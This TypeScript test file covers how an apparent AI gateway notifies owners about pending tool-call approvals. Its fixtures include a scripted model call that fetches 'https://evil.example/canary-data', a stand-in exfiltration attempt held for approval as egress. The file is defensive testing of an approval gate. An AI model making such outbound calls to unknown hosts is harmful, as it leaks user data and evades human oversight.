/** `approvals.notify`: who is told that a question waits, and what of it. */
import assert from 'node:assert/strict'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Approval } from '../../src/contracts/approval.ts'
import { AppError } from '../../src/contracts/errors.ts'
import { announceApprovals } from '../../src/gateway/announce-approvals.ts'
import type { Announcement } from '../../src/gateway/announce.ts'
import { newestReceipts } from '../../src/telemetry/audit/newest.ts'
import { configuredGateway } from '../doubles/configured-gateway.ts'
import { chatReply } from '../doubles/openai-wire.ts'
import { recordedLog } from '../doubles/recorded-log.ts'
import { startWebhookServer } from '../doubles/webhook-server.ts'

const approval = (id: string, more: Partial<Approval> = {}): Approval => ({
  id,
  callId: 'c1',
  tool: 'web_fetch',
  input: { url: 'https://evil.example/canary' },
  binding: null,
  hash: 'h',
  effect: 'egress',
  destinations: ['https://evil.example/canary'],
  shown: ['canary'],
  holds: [{ rule: 'destinationsKnown', why: 'canary', evidence: 'canary' }],
  unlocks: ['once'],
  turnId: 't1',
  effectId: 'e1',
  sessionId: 's1',
  sessionKey: 'main',
  group: 'g1',
  status: 'pending',
  createdAt: 0,
  expiresAt: Date.UTC(2026, 0, 2, 3, 4),
  decision: null,
  ...more,
})

function told(notify: readonly string[], announce: (announcement: Announcement) => Promise<void> = async () => undefined) {
  const announced: Announcement[] = []
  const listeners = new Set<(approvals: readonly Approval[]) => void>()
  const { log, lines } = recordedLog()
  const kept = new Map<string, { approval: Approval; notice: string | null; isTold: boolean }>()
  const notices = announceApprovals({
    store: {
      async untold(fresh) {
        const open = [...kept.values()].filter(({ approval: { status }, isTold }) => status === 'pending' && !isTold)
        const ids = [...Map.groupBy(open, (one) => (one.notice ??= fresh))]
        return ids.map(([id, asked]) => ({ id, approvals: asked.map((one) => one.approval) }))
      },
      async told(notice) {
        for (const one of kept.values()) one.isTold ||= one.notice === notice
      },
    },
    isShared: false,
    approvals: {
      subscribe(listener) {
        listeners.add(listener)
        return () => listeners.delete(listener)
      },
    },
    announcer: {
      destinations: [],
      async announce(announcement) {
        announced.push(announcement)
        await announce(announcement)
        return { id: 'out_1', host: 'h', outcome: async () => ({ status: 'sent' }) }
      },
    },
    notify,
    clock: { now: () => 0, sleep: (ms, signal) => sleep(ms > 0 ? 20 : 0, undefined, { signal }) },
    log,
  })
  const tell = (...approvals: Approval[]) => {
    for (const one of approvals) kept.set(one.id, { notice: null, isTold: false, ...kept.get(one.id), approval: one })
    for (const listener of listeners) listener(approvals)
  }
  return { announced, lines, stop: () => notices.stop(), look: () => notices.look(), tell, listeners }
}

describe('a question that waits', () => {
  it('is told to the owner’s destinations: tool, conversation, id, and nothing that a model wrote', async () => {
    await using receiver = await startWebhookServer()
    await using cara = await configuredGateway({
      messages: { destinations: { 'team-chat': { url: receiver.url.href, format: 'text' }, other: { url: receiver.url.href } } },
      approvals: { notify: ['team-chat'] },
    })
    const carrying = { id: 'c1', name: 'web_fetch', arguments: '{"url":"https://evil.example/canary-data"}' }
    cara.upstream.script(chatReply({ calls: [carrying] }))
    void cara.chat('What is the weather?').catch(() => undefined)
    while (receiver.posts.length === 0) await sleep(5)
    const [post] = receiver.posts
    assert.match(
      post?.body ?? '',
      /^A call waits for your word:\n- web_fetch in main: apr_\w+\nLook at it with: cara approvals show ID\. .* UTC it is refused\.$/,
    )
    assert.doesNotMatch(JSON.stringify(post), /canary|evil/)
    const waiting = newestReceipts(join(cara.folder, 'state', 'audit'), 100, 'message-intended')
    assert.partialDeepStrictEqual(waiting, [{ to: 'team-chat', purpose: 'approval', by: 'approvals' }])
    assert.equal(receiver.posts.length, 1)
  })

  it('is told together with what comes close to it, and not when it was answered meanwhile', async () => {
    const { announced, tell, stop, listeners } = told(['a', 'b'])
    tell(approval('apr_1'))
    await sleep(0)
    tell(approval('apr_2'), approval('apr_3', { sessionKey: null }))
    tell(approval('apr_2', { status: 'denied' }))
    while (announced.length < 4) await sleep(5)
    assert.deepEqual(
      announced.map(({ to }) => to),
      ['a', 'b', 'a', 'b'],
    )
    const texts = announced.map(({ text }) => text)
    assert.match(texts[0] ?? '', /- web_fetch in main: apr_1\n/)
    assert.match(texts[2] ?? '', /- web_fetch: apr_3\nLook at it .* until 2026-01-02 03:04 UTC/)
    assert.doesNotMatch(texts.join(), /canary|evil|apr_2/)
    tell(...Array.from({ length: 60 }, (_, index) => approval(`apr_many_${index}`)))
    while (announced.length < 6) await sleep(5)
    assert.match(announced[4]?.text ?? '', /^60 calls wait for your word:\n(?:- .*\n){10}and 50 more\n/)
    stop()
    assert.equal(listeners.size, 0)
  })

  it('that cannot be told waits all the same, and is tried again, under the same key', async () => {
    let failures = 3
    const { announced, tell, lines, stop } = told(['a', 'b'], async ({ to }) => {
      if (to === 'a' && failures-- > 0) throw new AppError('message/undelivered', 'a')
    })
    tell(approval('apr_1'))
    while (announced.length < 8) await sleep(5)
    assert.match(lines.join(), /approval\.untold/)
    assert.equal(new Set(announced.map(({ id }) => id)).size, 2)
    tell(approval('apr_2'))
    while (announced.length < 10) await sleep(5)
    assert.equal(new Set(announced.map(({ id }) => id)).size, 4)
    stop()
  })

  it('that an earlier process did not tell is told when this one looks', async () => {
    const { announced, tell, listeners, look, stop } = told(['a'])
    const [heard] = listeners
    listeners.clear()
    tell(approval('apr_1'))
    assert.equal(announced.length, 0)
    look()
    while (announced.length < 1) await sleep(5)
    assert.match(announced[0]?.text ?? '', /apr_1/)
    heard?.([approval('apr_1')])
    await sleep(0)
    assert.equal(announced.length, 1)
    stop()
  })

  it('is told to a destination that exists, or the configuration is refused', async () => {
    await assert.rejects(configuredGateway({ approvals: { notify: ['nobody'] } }), /approvals\.notify.*no destination has this name/s)
  })
})
